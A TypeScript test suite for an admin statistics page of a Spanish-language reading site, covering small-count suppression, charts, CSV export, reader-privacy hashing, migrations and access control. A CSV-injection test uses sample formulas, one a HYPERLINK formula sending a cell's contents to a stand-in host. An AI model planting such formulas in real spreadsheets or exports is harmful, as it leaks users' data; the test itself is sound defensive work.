import { sql } from "kysely";
import { beforeAll, describe, expect, it } from "vitest";
import { loader as statsLoader } from "../../routes/adminpanel.estadisticas.tsx";
import { loader as csvLoader } from "../../routes/adminpanel.estadisticas.$file.ts";
import { authorsStats } from "../../pages/authors-stats.server.ts";
import { grantAdminByEmail } from "../admins/admins.server.ts";
import { horizontalBars } from "../../lib/chart-scenes.server.ts";
import { tokenPathOf, CHAPTER_PATHS } from "../../../db/seed/chapter-paths.ts";
import { routeArgs, settle, signUpReader, statusOf } from "../../../tests/support/route-harness.ts";
import { DATABASE_KINDS, createTestDatabase, insertUsers } from "../../../tests/support/test-database.ts";
import { applyMigrations } from "../../lib/migration-runner.server.ts";
import { migrations } from "../../lib/bundled-migrations.server.ts";
import { useTestServices } from "../../../tests/support/fixtures.ts";
import { prunePageViews } from "./page-views.server.ts";
import { barValue, shownCount } from "./small-counts.ts";
import { figureCsv, SMALL_COUNTS_COLUMN, tableRows, type StatsFigure } from "./stats-figure.ts";
import { parse } from "csv-parse/sync";
import { periodLines } from "../../lib/chart-scenes.server.ts";
import { bucketed, parseStatsPeriod, periodDays } from "./stats-period.ts";

const DAY_MS = 86_400_000;

describe("small counts", () => {
  it("are written '<5' from 1 to 4; 0 and 5 and more as they are", () => {
    expect([0, 1, 2, 3, 4, 5, 17].map(shownCount)).toEqual(["0", "<5", "<5", "<5", "<5", "5", "17"]);
  });

  it("are drawn at one height whatever they are, so a chart tells no more than its table", () => {
    const scene = horizontalBars([
      { label: "uno", current: barValue(1) },
      { label: "cuatro", current: barValue(4) },
      { label: "diez", current: barValue(10) },
    ]);
    const bars = scene.shapes.filter((shape) => shape.kind === "rect" && shape.tone !== "background");
    expect(bars).toHaveLength(3);
    expect(bars[0]).toMatchObject({ tone: "small" });
    const widths = bars.map((bar) => (bar.kind === "rect" ? bar.width : null));
    expect(widths[0]).toBe(widths[1]);
    expect(widths[2]).toBeGreaterThan(widths[1]!);
    const texts = scene.shapes.flatMap((shape) => (shape.kind === "text" ? [shape.text] : []));
    expect(texts).toEqual(["uno", "<5", "cuatro", "<5", "diez", "10"]);
  });
});

describe("small counts over time", () => {
  it("break a line and stand as a band from 1 to 4, never as a point on the axis", () => {
    const scene = periodLines(["a", "b", "c"], [barValue(8), barValue(2), barValue(9)], [0, 0, 0].map(barValue));
    const current = scene.shapes.filter((shape) => shape.kind === "path").at(-1)!;
    expect(current.kind === "path" && current.d.match(/M/g)).toHaveLength(2); // 8 | gap | 9
    const bands = scene.shapes.filter((shape) => shape.kind === "rect" && shape.tone === "small");
    expect(bands).toHaveLength(2); // the key and the band
    const texts = scene.shapes.flatMap((shape) => (shape.kind === "text" ? [shape.text] : []));
    expect(texts).toContain("«<5»: entre 1 y 4");
  });
});

describe("a figure over time in its table and its CSV", () => {
  const days = Array.from({ length: 30 }, (_, index) => `2026-10-${String(index + 1).padStart(2, "0")}`);
  const figure: StatsFigure = {
    id: "prueba",
    section: "time",
    title: "Prueba",
    description: "",
    columns: [
      { name: "Día", kind: "date" },
      { name: "Últimos 30 días", kind: "count" },
      { name: "Día (periodo anterior)", kind: "date" },
      { name: "30 días anteriores", kind: "count" },
    ],
    rows: days.map((day, index) => ({
      label: day,
      cells: [index === 29 ? "12" : index === 3 ? "<5" : "0", "2026-09-01", index === 5 ? "<5" : "0"],
    })),
    chart: null,
    points: { one: "día", many: "días" },
  };

  it("folds runs of empty days into one row; a '<5' day is no empty day", () => {
    expect(
      tableRows(figure).map((row) => (row.kind === "empty" ? `${row.from}…${row.to}: ${row.text}` : row.label)),
    ).toEqual([
      "2026-10-01…2026-10-03: 3 días sin actividad",
      "2026-10-04",
      "2026-10-05",
      "2026-10-06",
      "2026-10-07…2026-10-29: 23 días sin actividad",
      "2026-10-30",
    ]);
  });

  it("is read by a CSV parser with whole numbers in its count columns, in both variants", () => {
    for (const delimiter of [",", ";"] as const) {
      const rows = parse(figureCsv(figure, delimiter), { bom: true, columns: true, delimiter, cast: true }) as Record<
        string,
        string | number
      >[];
      expect(rows).toHaveLength(30);
      expect(rows[29]).toEqual({
        Día: "2026-10-30",
        "Últimos 30 días": 12,
        "Día (periodo anterior)": "2026-09-01",
        "30 días anteriores": 0,
        [SMALL_COUNTS_COLUMN]: "",
      });
      expect(rows[3]!["Últimos 30 días"]).toBe("");
      expect(rows[3]![SMALL_COUNTS_COLUMN]).toBe("Últimos 30 días");
      expect(
        rows.every((row) => typeof row["30 días anteriores"] === "number" || row["30 días anteriores"] === ""),
      ).toBe(true);
    }
    expect(figureCsv(figure, ";").split("\r\n")[0]).toBe(
      `\uFEFFDía;Últimos 30 días;Día (periodo anterior);30 días anteriores;${SMALL_COUNTS_COLUMN}`,
    );
  });
});

describe("statistics periods", () => {
  it("are 7, 30, 90 or 365 days; anything else is 30", () => {
    expect(["7", "30", "90", "365", null, "12", "abc", "-7"].map(parseStatsPeriod)).toEqual([
      7, 30, 90, 365, 30, 30, 30, 30,
    ]);
  });

  it("set the previous period just before the current one and fold days into points", () => {
    const days = periodDays(90, new Date("2026-03-31T23:00:00Z"));
    expect(days).toMatchObject({ today: "2026-03-31", currentStart: "2026-01-01", previousStart: "2025-10-03" });
    const series = bucketed(days, [
      { offset: 0, count: 2 }, // the previous period's first day
      { offset: 90, count: 5 }, // the current period's first day
      { offset: 96, count: 1 }, // still its first week
      { offset: 97, count: 3 }, // its second week
      { offset: 179, count: 4 }, // today: the last, shorter week
    ]);
    expect(series.current).toHaveLength(13);
    expect(series.current.slice(0, 2)).toEqual([6, 3]);
    expect(series.current.at(-1)).toBe(4);
    expect(series.previous[0]).toBe(2);
    expect(series.currentStarts[0]!.toISOString().slice(0, 10)).toBe("2026-01-01");
    expect(series.previousStarts[0]!.toISOString().slice(0, 10)).toBe("2025-10-03");
  });
});

const figureOf = (figures: StatsFigure[], id: string) => {
  const figure = figures.find((candidate) => candidate.id === id);
  if (!figure) throw new Error(`no figure ${id}`);
  return figure;
};
const rowOf = (figure: StatsFigure, label: string) => figure.rows.find((row) => row.label === label)?.cells;

describe.each(DATABASE_KINDS)("authors' statistics on %s", (kind) => {
  const services = useTestServices(kind, { seed: true });
  const now = new Date();
  const ago = (days: number) => new Date(now.getTime() - days * DAY_MS);
  const chapterPath = (number: number) => CHAPTER_PATHS.find((path) => path.number === number)!;

  beforeAll(async () => {
    const { db } = services;
    const readers = await insertUsers(db, ...Array.from({ length: 12 }, (_, index) => `lector-${index}`));
    const unlock = (chapter: string, count: number) =>
      db
        .insertInto("unlocked_chapters")
        .values(readers.slice(0, count).map((user_id) => ({ user_id, chapter_id: chapter })))
        .execute();
    await unlock("capitulo-1", 12);
    await unlock("capitulo-2", 9);
    await unlock("capitulo-3", 2);
    await db
      .insertInto("profiles")
      .values(["lector-0", "lector-1"].map((user_id) => ({ user_id, clan: 2 })))
      .onConflict((conflict) => conflict.column("user_id").doUpdateSet({ clan: 2 }))
      .execute();
    const views: { path: string; created_at: Date }[] = [
      ...Array.from({ length: 7 }, () => ({ path: `/${chapterPath(1).slug}`, created_at: now })),
      ...Array.from({ length: 2 }, () => ({ path: tokenPathOf(chapterPath(1)), created_at: ago(1) })),
      ...Array.from({ length: 3 }, () => ({ path: "/el-libro", created_at: now })),
      ...Array.from({ length: 6 }, () => ({ path: "/qr/capitulo-1", created_at: ago(40) })),
      { path: "/qr/capitulo-1", created_at: now },
    ];
    await db
      .insertInto("page_views")
      .values(views.map((view) => ({ ...view, title: "t" })))
      .execute();
    const comment = (status: "visible" | "held" | "hidden", count: number, section = chapterPath(2).slug) =>
      Array.from({ length: count }, (_, index) => ({
        id: `${status}-${section}-${index}`,
        section_id: section,
        user_id: readers[index]!,
        user_name: "Xolo Veloz 12",
        text: "¡Qué bonito!",
        status,
      }));
    await db
      .insertInto("comments")
      .values([...comment("visible", 6), ...comment("held", 2), ...comment("hidden", 1)])
      .execute();
    await db
      .insertInto("comment_reports")
      .values({ comment_id: `visible-${chapterPath(2).slug}-0`, reporter_id: readers[5]!, reason: "otro" })
      .execute();
  });

  it("follow readers from chapter to chapter through their unlocks, with the drop between them", async () => {
    const { figures } = await authorsStats(services.db, 30, now);
    const journey = figureOf(figures, "recorrido");
    expect(journey.rows.slice(0, 4)).toEqual([
      { label: "1. Salida a Tzintzuntzan", cells: ["12", ""] },
      { label: "2. Casa de la abuela", cells: ["9", "<5"] },
      { label: "3. El convento de Santa Ana en Tzintzuntzan", cells: ["<5", "7"] },
      { label: expect.stringMatching(/^4\. /), cells: ["0", "<5"] },
    ]);
    expect(journey.rows).toHaveLength(CHAPTER_PATHS.length);
    expect(journey.chart?.shapes.some((shape) => shape.kind === "rect" && shape.tone === "small")).toBe(true);
  });

  it("count views (both addresses of a chapter), comments by state and reports per chapter", async () => {
    const { figures } = await authorsStats(services.db, 30, now);
    const chapters = figureOf(figures, "capitulos");
    expect(chapters.columns.map((column) => column.name)).toEqual([
      "Capítulo",
      "Visitas",
      "Comentarios publicados",
      "En revisión",
      "Ocultos",
      "Borrados",
      "Reportes",
    ]);
    expect(rowOf(chapters, "1. Salida a Tzintzuntzan")).toEqual(["9", "0", "0", "0", "0", "0"]);
    expect(rowOf(chapters, "2. Casa de la abuela")).toEqual(["0", "6", "<5", "<5", "0", "<5"]);
  });

  it("compare the chosen period with the one before, per day and per QR code", async () => {
    const month = await authorsStats(services.db, 30, now);
    const visits = figureOf(month.figures, "visitas");
    expect(visits.rows).toHaveLength(30);
    expect(visits.columns).toEqual([
      { name: "Día", kind: "date" },
      { name: "Últimos 30 días", kind: "count" },
      { name: "Día (periodo anterior)", kind: "date" },
      { name: "30 días anteriores", kind: "count" },
    ]);
    // Days with their year, as ISO dates (the table writes them in Spanish).
    expect(visits.rows.at(-1)!.label).toBe(now.toISOString().slice(0, 10));
    expect(visits.rows.at(-1)!.cells[1]).toBe(ago(30).toISOString().slice(0, 10));
    expect(visits.rows.at(-1)!.cells[0]).toBe("10"); // today: 7 of chapter 1 and 3 of /el-libro
    expect(visits.rows.at(-2)!.cells[0]).toBe("<5"); // yesterday: chapter 1's token path twice
    const scans = figureOf(month.figures, "escaneos-por-codigo");
    expect(rowOf(scans, "capitulo-1")).toEqual(["<5", "6"]);
    expect(rowOf(scans, "Códigos que no existen")).toEqual(["0", "0"]);
    const pages = figureOf(month.figures, "paginas");
    expect(rowOf(pages, "/el-libro")).toEqual(["<5", "0"]);
    expect(rowOf(pages, "/salida-a-tzintzuntzan")).toEqual(["7", "0"]);

    const week = await authorsStats(services.db, 7, now);
    expect(figureOf(week.figures, "visitas").rows).toHaveLength(7);
    const year = await authorsStats(services.db, 365, now);
    expect(figureOf(year.figures, "visitas").rows).toHaveLength(13);
    const yearScans = figureOf(year.figures, "escaneos").rows.map((row) => row.cells[0]);
    expect(yearScans.filter((cell) => cell !== "0")).toEqual(["6", "<5"]); // 40 days ago, and today
  });

  it("count QR scans per code and day, the previous period's total beside, small counts as '<5'", async () => {
    const { db } = services;
    const scans = (count: number, created_at: Date) =>
      Array.from({ length: count }, () => ({ path: "/qr/rana", title: "Escaneo de código QR", created_at }));
    await db
      .insertInto("page_views")
      .values([...scans(5, now), ...scans(3, ago(1)), ...scans(2, ago(35))])
      .execute();
    const month = figureOf((await authorsStats(db, 30, now)).figures, "escaneos-por-codigo-y-dia");
    expect(month.section).toBe("qr");
    expect(month.columns.map((column) => column.name)).toEqual(["Día", "rana", "capitulo-1"]); // most scanned first
    expect(month.rows).toHaveLength(30 + 2);
    expect(month.rows[0]!.cells).toEqual(["0", "0"]);
    expect(month.rows[29]!.cells).toEqual(["5", "<5"]); // today: 5 of rana, 1 of capitulo-1
    expect(month.rows[28]!.cells).toEqual(["<5", "0"]); // yesterday: 3 of rana
    expect(month.rows.slice(-2)).toEqual([
      { label: "Total: últimos 30 días", cells: ["8", "<5"] },
      { label: "Total: 30 días anteriores", cells: ["<5", "6"] },
    ]);
    // The chart: a panel per code headed by the same totals; every small count at one height.
    const chart = month.chart!;
    const texts = chart.shapes.flatMap((shape) => (shape.kind === "text" ? [shape.text] : []));
    expect(texts).toEqual(expect.arrayContaining(["rana: 8 (antes <5)", "capitulo-1: <5 (antes 6)"]));
    expect(chart.shapes.filter((shape) => shape.kind === "path")).toHaveLength(2);
    // A small count is no point of a line: the line breaks there, and a band from 1 to 4 stands in
    // its place, the same for 3 and for 1; the chart's key says what the band means.
    const smallBands = chart.shapes.flatMap((shape) =>
      shape.kind === "rect" && shape.tone === "small" ? [shape] : [],
    );
    expect(smallBands).toHaveLength(3); // the key, rana yesterday (3), capitulo-1 today (1)
    expect(texts).toContain("«<5»: entre 1 y 4");
    const [, ranaBand, chapterBand] = smallBands;
    expect(ranaBand!.height).toBe(chapterBand!.height);
    expect(ranaBand!.y - chapterBand!.y).toBe(0); // both panels in the first row, on one scale
    const paths = chart.shapes.flatMap((shape) => (shape.kind === "path" ? [shape.d] : []));
    expect(paths[0]!.match(/M/g)).toHaveLength(2); // rana: broken at yesterday, today (5) alone
    // No count from 1 to 4 written anywhere (the note on small counts aside).
    expect(`${month.description} ${texts.join(" ")}`.replaceAll("de 1 a 4", "").replace("entre 1 y 4", "")).not.toMatch(
      /(?<![\w-])[1-4](?![\w-])/,
    );
    // In the CSV a '<5' is an empty number, named in the last column.
    expect(figureCsv(month)).toContain("Total: 30 días anteriores,,6,rana\r\n");

    const week = figureOf((await authorsStats(db, 7, now)).figures, "escaneos-por-codigo-y-dia");
    expect(week.rows).toHaveLength(7 + 2);
    expect(week.rows.slice(-2).map((row) => row.cells)).toEqual([
      ["8", "<5"],
      ["0", "0"],
    ]);
    const year = figureOf((await authorsStats(db, 365, now)).figures, "escaneos-por-codigo-y-dia");
    expect(year.columns[0]!.name).toBe("30 días desde");
    expect(year.rows).toHaveLength(13 + 2);
    expect(year.rows.at(-2)!.cells).toEqual(["10", "7"]);
    expect(year.rows.filter((row) => !row.label.startsWith("Total")).map((row) => row.cells[1])).toEqual(
      expect.arrayContaining(["6", "<5"]),
    );
  });

  it("count sign-ups, comments, active readers, clans and families", async () => {
    const { figures } = await authorsStats(services.db, 7, now);
    expect(figureOf(figures, "altas").rows.at(-1)!.cells[0]).toBe("12");
    expect(figureOf(figures, "comentarios").rows.at(-1)!.cells[0]).toBe("9");
    // Active readers today: the 12 who unlocked and commented, each once.
    expect(figureOf(figures, "lectores-activos").rows.at(-1)!.cells[0]).toBe("12");
    expect(rowOf(figureOf(figures, "clanes"), "Mictlán")).toEqual(["<5"]);
    expect(figureOf(figures, "familias").rows).toEqual([
      { label: "Familias con lectores niños", cells: ["0"] },
      { label: "Lectores niños", cells: ["0"] },
    ]);
  });

  it("keep day counts of page views beyond the views' own retention, and no closed day's set of readers", async () => {
    const { db } = services;
    const perDay = async () =>
      Object.fromEntries(
        (
          await sql<{ path: string; views: number }>`
            select path, sum(views) as views from page_view_days where path like '/conteo%' group by path`.execute(db)
        ).rows.map((row) => [row.path, Number(row.views)]),
      );
    await db.insertInto("page_views").values({ path: "/conteo", title: "t" }).execute();
    await db
      .insertInto("page_views")
      .values([
        { path: "/conteo", title: "t" },
        { path: "/conteo-viejo", title: "t", created_at: ago(500) },
        { path: "/conteo-viejisimo", title: "t", created_at: ago(800) },
      ])
      .execute();
    expect(await perDay()).toEqual({ "/conteo": 2, "/conteo-viejo": 1, "/conteo-viejisimo": 1 });
    const dayOf = (date: Date) => date.toISOString().slice(0, 10);
    // A closed day's salt and marks (as a day with nobody active would leave them) go too.
    await db
      .insertInto("active_reader_salts")
      .values({ day: dayOf(ago(3)), salt: "viejo" })
      .execute();
    await db
      .insertInto("active_reader_marks")
      .values({ day: dayOf(ago(3)), mark: new Uint8Array(32) })
      .execute();
    await prunePageViews(db);
    expect(await perDay()).toEqual({ "/conteo": 2, "/conteo-viejo": 1 });
    const openDays = async (table: "active_reader_salts" | "active_reader_marks") =>
      (
        await db
          .selectFrom(table)
          .select(sql<string>`to_char(day, 'YYYY-MM-DD')`.as("day"))
          .distinct()
          .execute()
      ).map((row) => row.day);
    expect(await openDays("active_reader_salts")).not.toContain(dayOf(ago(3)));
    expect(await openDays("active_reader_marks")).not.toContain(dayOf(ago(3)));
    expect(await openDays("active_reader_marks")).toContain(dayOf(now)); // today's readers stay marked
    expect(await db.selectFrom("page_views").select("path").where("path", "like", "/conteo-viej%").execute()).toEqual(
      [],
    );
  });

  it("follow comments approved or hidden, and keep every count when a reader deletes their account", async () => {
    const { db } = services;
    const casa = async () =>
      rowOf(figureOf((await authorsStats(db, 30, now)).figures, "capitulos"), "2. Casa de la abuela");
    const figures = async () => (await authorsStats(db, 30, now)).figures;
    const journey = async () => figureOf(await figures(), "recorrido").rows[0]!.cells[0];
    const today = async (id: string) => figureOf(await figures(), id).rows.at(-1)!.cells[0];
    expect(await casa()).toEqual(["0", "6", "<5", "<5", "0", "<5"]);
    await db.updateTable("comments").set({ status: "visible" }).where("status", "=", "held").execute();
    expect(await casa()).toEqual(["0", "8", "0", "<5", "0", "<5"]);
    await insertUsers(db, "se-va");
    await db.insertInto("unlocked_chapters").values({ user_id: "se-va", chapter_id: "capitulo-1" }).execute();
    await db
      .insertInto("comments")
      .values({
        section_id: chapterPath(2).slug,
        user_id: "se-va",
        user_name: "Xolo",
        text: "adiós",
        status: "visible",
      })
      .execute();
    expect(await journey()).toBe("13");
    expect(await casa()).toEqual(["0", "9", "0", "<5", "0", "<5"]);
    const before = {
      signUps: await today("altas"),
      comments: await today("comentarios"),
      active: await today("lectores-activos"),
    };
    await db.deleteFrom("user").where("id", "=", "se-va").execute();
    // The account and its rows are gone; what happened that day is still counted, by nobody's name.
    expect(
      await db.selectFrom("unlocked_chapters").select("chapter_id").where("user_id", "=", "se-va").execute(),
    ).toEqual([]);
    expect(await journey()).toBe("13");
    expect(await casa()).toEqual(["0", "8", "0", "<5", "<5", "<5"]); // its comment now among the deleted
    expect({
      signUps: await today("altas"),
      comments: await today("comentarios"),
      active: await today("lectores-activos"),
    }).toEqual(before);
    // Nothing in the statistics' tables holds an account's id.
    const named = await sql<{ n: number }>`
      select count(*) as n from stats_days where key = 'se-va'
      union all select count(*) from active_reader_marks where encode(mark, 'escape') like '%se-va%'
      union all select count(*) from reader_days`.execute(db);
    expect(named.rows.map((row) => Number(row.n))).toEqual([0, 0, 0]);
    // Back as the other tests found it.
    await db
      .updateTable("comments")
      .set({ status: "held" })
      .where("id", "in", ["held-casa-de-la-abuela-0", "held-casa-de-la-abuela-1"])
      .execute();
  });

  it("count each reader once a day, however many writes at once, and a new reader once more", async () => {
    const { db } = services;
    const activeToday = async () =>
      Number(
        (
          await sql<{ count: number }>`
            select coalesce(sum(count), 0) as count from stats_days
            where metric = 'active-readers' and day = (now() at time zone 'UTC')::date`.execute(db)
        ).rows[0]!.count,
      );
    const [reader, other] = await insertUsers(db, "una-vez", "otra-vez");
    const before = await activeToday();
    // Separate statements side by side: on PostgreSQL they run on separate connections of the
    // pool, as two instances would; the day's set lets one of them count the reader.
    const chapters = CHAPTER_PATHS.slice(0, 8).map((path) => path.id);
    await Promise.all([
      ...chapters.map((chapter_id) =>
        db.insertInto("unlocked_chapters").values({ user_id: reader!, chapter_id }).execute(),
      ),
      ...Array.from({ length: 4 }, (_, index) =>
        db
          .insertInto("comments")
          .values({ section_id: chapterPath(1).slug, user_id: reader!, user_name: "Xolo", text: `uno ${index}` })
          .execute(),
      ),
    ]);
    expect(await activeToday()).toBe(before + 1);
    await db.insertInto("unlocked_chapters").values({ user_id: other!, chapter_id: "capitulo-1" }).execute();
    expect(await activeToday()).toBe(before + 2);
    // The day's marks are salted hashes: 32 bytes, never the account's id, and each day has its own salt.
    const marks = await db.selectFrom("active_reader_marks").select("mark").execute();
    expect(marks.every((row) => row.mark.length === 32)).toBe(true);
    const salts = await db.selectFrom("active_reader_salts").select("salt").execute();
    expect(new Set(salts.map((row) => row.salt)).size).toBe(salts.length);
    expect(salts.every((row) => row.salt.length >= 64)).toBe(true);
    // An event dated on a closed day (an import) counts no active reader: its set is gone.
    const longAgo = ago(10);
    const beforeOld = Number(
      (
        await sql<{ count: number }>`select coalesce(sum(count), 0) as count from stats_days
          where metric = 'active-readers' and day = ${longAgo.toISOString().slice(0, 10)}::date`.execute(db)
      ).rows[0]!.count,
    );
    await db
      .insertInto("unlocked_chapters")
      .values({ user_id: other!, chapter_id: "capitulo-2", unlocked_at: longAgo })
      .execute();
    const afterOld = await sql<{ count: number }>`select coalesce(sum(count), 0) as count from stats_days
      where metric = 'active-readers' and day = ${longAgo.toISOString().slice(0, 10)}::date`.execute(db);
    expect(Number(afterOld.rows[0]!.count)).toBe(beforeOld);
  });

  it("are for admins only: the page and every CSV", async () => {
    const csvArgs = async (file: string, cookie?: string) => ({
      ...((await routeArgs(services, `/adminpanel/estadisticas/${file}?dias=7`, { cookie })) as object),
      params: { file },
    });
    const visitor = (await settle(async () =>
      statsLoader(await routeArgs(services, "/adminpanel/estadisticas")),
    )) as Response;
    expect(visitor.status).toBe(302);
    expect(visitor.headers.get("Location")).toBe("/login?redirectTo=%2Fadminpanel%2Festadisticas");
    expect(statusOf(await settle(async () => csvLoader((await csvArgs("recorrido.csv")) as never)))).toBe(302);
    const reader = await signUpReader(services, "curioso@example.com");
    expect(
      statusOf(
        await settle(async () =>
          statsLoader(await routeArgs(services, "/adminpanel/estadisticas", { cookie: reader.cookie })),
        ),
      ),
    ).toBe(403);
    expect(
      statusOf(await settle(async () => csvLoader((await csvArgs("recorrido.csv", reader.cookie)) as never))),
    ).toBe(403);

    const admin = await signUpReader(services, "jefa.stats@example.com");
    await grantAdminByEmail(services.db, "jefa.stats@example.com", async () => {});
    const page = await statsLoader(
      await routeArgs(services, "/adminpanel/estadisticas?dias=7", { cookie: admin.cookie }),
    );
    expect(page.period).toBe(7);
    const csv = (await csvLoader((await csvArgs("capitulos.csv", admin.cookie)) as never)) as Response;
    expect(csv.status).toBe(200);
    expect(csv.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    const bytes = new Uint8Array(await csv.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // UTF-8 for spreadsheet programs
    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
    expect(text).toBe(figureCsv(figureOf(page.figures, "capitulos")));
    // Counts stay numbers: a '<5' is an empty cell, its column named in the last one.
    expect(text).toContain("2. Casa de la abuela,0,6,,,,,En revisión | Ocultos | Borrados | Reportes\r\n");
    const missing = (await csvLoader((await csvArgs("nada.csv", admin.cookie)) as never)) as Response;
    expect(missing.status).toBe(404);
  });

  it("write no cell a spreadsheet would run: names starting with = + - @ come out as text", async () => {
    const { db } = services;
    const unlockable = await db
      .selectFrom("characters")
      .select(["id", "name"])
      .where("required_url", "is not", null)
      .orderBy("sort_order")
      .limit(4)
      .execute();
    expect(unlockable).toHaveLength(4);
    const formulas = ['=HYPERLINK("https://malo.example/?d="&A1,"Ver")', "+SUMA(A1:A9)", "-2+3", "@HOY()"];
    const rename = (names: string[]) =>
      Promise.all(
        unlockable.map((character, index) =>
          db.updateTable("characters").set({ name: names[index]! }).where("id", "=", character.id).execute(),
        ),
      );
    await rename(formulas);
    try {
      const admin = await signUpReader(services, "jefa.formulas@example.com");
      await grantAdminByEmail(services.db, "jefa.formulas@example.com", async () => {});
      const args = await routeArgs(services, "/adminpanel/estadisticas/personajes.csv?dias=7", {
        cookie: admin.cookie,
      });
      const csv = (await csvLoader({ ...(args as object), params: { file: "personajes.csv" } } as never)) as Response;
      expect(csv.status).toBe(200);
      const lines = (await csv.text()).split("\r\n");
      expect(lines).toContain(`"'=HYPERLINK(""https://malo.example/?d=""&A1,""Ver"")",0,`);
      expect(lines).toContain("'+SUMA(A1:A9),0,");
      expect(lines).toContain("'-2+3,0,");
      expect(lines).toContain("'@HOY(),0,");
      // No line (after the header) starts with what a spreadsheet runs, quoted or not.
      expect(lines.slice(1).filter((line) => /^"?[=+\-@\t\r]/.test(line))).toEqual([]);
    } finally {
      await rename(unlockable.map((character) => character.name));
    }
  });

  it("count a family's children as families and a class's students with their classes, totals only", async () => {
    const { db } = services;
    const students = await insertUsers(db, "maestra", ...Array.from({ length: 6 }, (_, index) => `alumno-${index}`));
    const child = (user_id: string, kind: "family" | "class") => ({
      user_id,
      guardian_id: "maestra",
      picture: "xolo",
      consent_by_email: "maestra@example.com",
      consent_text: "Sí",
      kind,
    });
    await db
      .insertInto("child_readers")
      .values(students.slice(1).map((id) => child(id, "class")))
      .execute();
    await sql`insert into classes (id, teacher_id, name, consent_by_email, consent_text)
      values ('clase-1', 'maestra', '4º B', 'maestra@example.com', 'Sí')`.execute(db);
    await db
      .insertInto("class_students")
      .values(students.slice(1).map((user_id) => ({ user_id, class_id: "clase-1" })))
      .execute();
    await db
      .insertInto("unlocked_chapters")
      .values(students.slice(1).map((user_id) => ({ user_id, chapter_id: "capitulo-2" })))
      .execute();
    const { figures } = await authorsStats(db, 30, now);
    expect(figureOf(figures, "familias").rows).toEqual([
      { label: "Familias con lectores niños", cells: ["0"] },
      { label: "Lectores niños", cells: ["0"] },
    ]);
    expect(figureOf(figures, "clases").rows).toEqual([
      { label: "Clases abiertas", cells: ["<5"] },
      { label: "Alumnos", cells: ["6"] },
      { label: "Capítulos desbloqueados por alumnos", cells: ["6"] },
    ]);
    expect(JSON.stringify(figureOf(figures, "clases"))).not.toContain("4º B");
  });
});

describe("migration 0019 on a database with readers already", () => {
  it("counts by day what was stored before it: views, sign-ups, comments, unlocks and active days", async () => {
    // An empty database copied from the run's template: an initdb of its own took ~2.5 s of CPU.
    const handle = await createTestDatabase("pglite", { migrated: false });
    try {
      await applyMigrations(
        handle,
        migrations.filter((migration) => migration.version < "0019"),
      );
      const { db } = handle;
      await insertUsers(db, "antes-1", "antes-2");
      const path = CHAPTER_PATHS[0]!;
      await sql`insert into chapters (id, sort_order, number, slug, title, required_url, layout)
        values (${path.id}, 1, 1, ${path.slug}, 'Uno', ${tokenPathOf(path)}, 'first')`.execute(db);
      await db
        .insertInto("unlocked_chapters")
        .values([
          { user_id: "antes-1", chapter_id: path.id },
          { user_id: "antes-2", chapter_id: path.id, unlocked_at: new Date(Date.now() - 90 * DAY_MS) },
        ])
        .execute();
      await db
        .insertInto("comments")
        .values({ section_id: path.slug, user_id: "antes-1", user_name: "Xolo", text: "hola", status: "held" })
        .execute();
      await db
        .insertInto("page_views")
        .values([
          { path: "/", title: "t" },
          { path: "/", title: "t" },
        ])
        .execute();

      await applyMigrations(handle, migrations);

      const totals = await sql<{ metric: string; key: string; total: number }>`
        select metric, key, sum(count) as total from stats_days group by 1, 2 order by 1, 2`.execute(db);
      expect(totals.rows.map((row) => [row.metric, row.key, Number(row.total)])).toEqual([
        ["active-readers", "", 2], // today's reader and the one of 90 days ago (migration 0029)
        ["chapter-unlocks", path.id, 2],
        ["comments", `${path.slug} held`, 1],
        ["sign-ups", "", 2],
      ]);
      const views = await sql<{
        total: number;
      }>`select sum(views) as total from page_view_days where path = '/'`.execute(db);
      expect(Number(views.rows[0]!.total)).toBe(2);
      // reader_days, which named the account, is emptied by migration 0029.
      expect(await db.selectFrom("reader_days").select("user_id").execute()).toEqual([]);
    } finally {
      await handle.dispose();
    }
  });
});

describe.each(DATABASE_KINDS)("migration 0029 on %s, on a database with readers already", (kind) => {
  it("keeps the counts of today's rows, counts active readers per day from them, and marks today's", async () => {
    const handle = await createTestDatabase(kind, { migrated: false });
    try {
      await applyMigrations(
        handle,
        migrations.filter((migration) => migration.version < "0029"),
      );
      const { db } = handle;
      await insertUsers(db, "ya-1", "ya-2", "ya-3");
      const path = CHAPTER_PATHS[0]!;
      await sql`insert into chapters (id, sort_order, number, slug, title, required_url, layout)
        values (${path.id}, 1, 1, ${path.slug}, 'Uno', ${tokenPathOf(path)}, 'first')`.execute(db);
      const threeDaysAgo = new Date(Date.now() - 3 * DAY_MS);
      await db
        .insertInto("unlocked_chapters")
        .values([
          { user_id: "ya-1", chapter_id: path.id },
          { user_id: "ya-2", chapter_id: path.id, unlocked_at: threeDaysAgo },
        ])
        .execute();
      await db
        .insertInto("comments")
        .values([
          { section_id: path.slug, user_id: "ya-1", user_name: "Xolo", text: "hola", status: "visible" },
          { section_id: path.slug, user_id: "ya-2", user_name: "Xolo", text: "hola", created_at: threeDaysAgo },
        ])
        .execute();

      await applyMigrations(handle, migrations);

      const activeOn = async (date: Date) =>
        Number(
          (
            await sql<{ count: number }>`select coalesce(sum(count), 0) as count from stats_days
              where metric = 'active-readers' and day = ${date.toISOString().slice(0, 10)}::date`.execute(db)
          ).rows[0]!.count,
        );
      expect([await activeOn(new Date()), await activeOn(threeDaysAgo)]).toEqual([1, 1]);
      // Today's reader is marked: unlocking again today counts nobody new; another reader does.
      await db
        .insertInto("comments")
        .values({ section_id: path.slug, user_id: "ya-1", user_name: "X", text: "otra" })
        .execute();
      expect(await activeOn(new Date())).toBe(1);
      await db
        .insertInto("comments")
        .values({ section_id: path.slug, user_id: "ya-3", user_name: "X", text: "yo" })
        .execute();
      expect(await activeOn(new Date())).toBe(2);
      // Closing a class or deleting accounts leaves the history as it was.
      const counts = async () =>
        (
          await sql<{ metric: string; total: number }>`
            select metric, sum(count) as total from stats_days group by 1 order by 1`.execute(db)
        ).rows.map((row) => [row.metric, Number(row.total)]);
      const before = await counts();
      await db.deleteFrom("user").where("id", "in", ["ya-1", "ya-2", "ya-3"]).execute();
      expect(await counts()).toEqual(before);
    } finally {
      await handle.dispose();
    }
  });
});
